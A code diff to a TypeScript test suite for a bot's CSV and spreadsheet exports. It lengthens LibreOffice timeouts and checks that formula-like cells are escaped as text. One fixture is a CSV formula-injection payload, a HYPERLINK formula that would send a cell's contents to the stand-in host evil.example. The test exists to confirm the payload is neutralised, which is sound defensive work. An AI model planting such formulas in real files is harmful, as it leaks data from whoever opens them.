@@ -16,6 +16,9 @@ import { day } from "./reports-support.ts";
 const INJECTED_TITLE = '=HYPERLINK("http://evil.example/?d="&A1;"voir")';
 const BULLET_LABEL = "- Nombre de permanences itinérantes tenues";
 
+// LibreOffice starts slowly on a loaded machine (the whole suite runs in parallel): more than the default minute.
+const LIBREOFFICE_TIMEOUT = 180_000;
+
 let bot: TestBot;
 let query: CopilQuery;
 let workbook: Uint8Array;
@@ -63,7 +66,7 @@ describe("a CSV cell that a spreadsheet would run as a formula", () => {
     expect(csvLines([["=1+1", { raw: "-3" }, { raw: "2,5" }, "-3", "Zoé"]])).toBe(`"'=1+1";-3;2,5;"'-3";Zoé\r\n`);
   });
 
-  it("stays text in LibreOffice in the activities and the indicators files, while numbers stay numbers", async () => {
+  it("stays text in LibreOffice in the activities and the indicators files, while numbers stay numbers", { timeout: LIBREOFFICE_TIMEOUT }, async () => {
     expect(Buffer.from(activitiesCsv).toString("utf8")).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1;""voir"")"`);
     const indicators = csvRows(indicatorsCsv);
     expect(rowOf(indicators, `'${BULLET_LABEL}`)[4]).toBe("-3");
@@ -115,8 +118,9 @@ describe("the COPIL workbook on paper", () => {
     }
   });
 
-  it("LibreOffice prints it as A4 landscape pages, a page per small sheet, and reads the values the bot wrote", async () => {
-    const folder = join(scratch.path, "workbook");
+  it("LibreOffice prints it as A4 landscape pages, a page per small sheet, and reads the values the bot wrote", { timeout: LIBREOFFICE_TIMEOUT }, async () => {
+    // The same folder, so the same LibreOffice profile, as the CSV test: a second profile costs a slower start.
+    const folder = scratch.path;
     const files = [{ name: "copil.xlsx", bytes: workbook }];
     const sheets = XLSX.read(workbook, { cellDates: true });
     const pages = await pdfPages(join(await libreOfficeConvert(folder, files, "pdf"), "copil.pdf"));
